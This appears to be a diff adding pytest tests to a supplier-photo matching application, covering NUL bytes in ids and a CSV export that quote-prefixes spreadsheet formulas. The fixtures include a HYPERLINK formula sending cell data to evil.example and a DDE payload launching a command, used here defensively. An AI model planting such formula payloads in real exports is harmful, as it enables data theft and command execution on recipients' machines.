@@ -92,6 +92,9 @@ def test_a_decision_is_recorded_with_who_and_the_verdict_and_replaced_when_redec
     ("alike", "confirmed", "", "confirming 'alike' needs the article it is (article_id)"),
     ("alike", "maybe", "", "decision must be one of confirmed, new, skipped; got 'maybe'"),
     ("alike", "skipped", "A1", "a 'skipped' decision names no article; got 'A1'"),
+    # No article id holds a NUL: PostgreSQL refuses it in a query (was a 500 there).
+    ("alike", "confirmed", "A1\x00", "no catalog article has the id 'A1\\x00'"),
+    ("al\x00ike", "new", "", "match run #{pk} has no supplier photo 'al\\x00ike'"),
 ])
 def test_bad_decisions_say_what_is_wrong_and_record_nothing(run, ref, decision, article_id,
                                                             message):
@@ -100,6 +103,11 @@ def test_bad_decisions_say_what_is_wrong_and_record_nothing(run, ref, decision, 
                               article_id=article_id)
     assert str(caught.value) == message.format(pk=run.pk)
     assert not MatchDecision.objects.exists()
+
+
+def test_undo_of_a_ref_with_a_nul_is_refused_like_any_unknown_ref(run):
+    with pytest.raises(InvalidDecision, match="has no decision to undo"):
+        match_decision_undo(run=run, supplier_ref="nothing\x00")
 
 
 def test_undo_forgets_the_decision_and_refuses_when_there_is_none(run):
@@ -166,3 +174,20 @@ def test_deleting_a_run_deletes_its_decisions(run):
     match_decision_record(run=run, supplier_ref="alike", decision="new")
     run.delete()
     assert not MatchDecision.objects.exists()
+
+
+def test_the_export_neutralises_spreadsheet_formulas_from_the_supplier(tmp_path):
+    """A supplier's ref, error or extra column starting with = + - @ would run as a formula
+    when a buyer opens the export in a spreadsheet: such cells are prefixed with a quote."""
+    run = published_run(tmp_path, [
+        MatchRow('=HYPERLINK("http://evil.example/?"&A1,"x")', NEW, [("A1", 0.8)]),
+        MatchRow("@SUM(1+1)*cmd|' /C calc'!A0", ERROR, error="+bad"),
+        MatchRow("-2+3", NEW, [("A2", 0.9)]),
+        MatchRow("SKU-7", SIMILAR, [("A3", 0.2)]),
+    ])
+    lines = list(csv.reader(io.StringIO("".join(match_run_csv(run=run)))))
+    refs = [line[0] for line in lines[1:]]
+    assert refs == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+                    "'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3", "SKU-7"]
+    assert lines[2][lines[0].index("error")] == "'+bad"
+    assert lines[4][2] == "A3"  # ordinary cells untouched
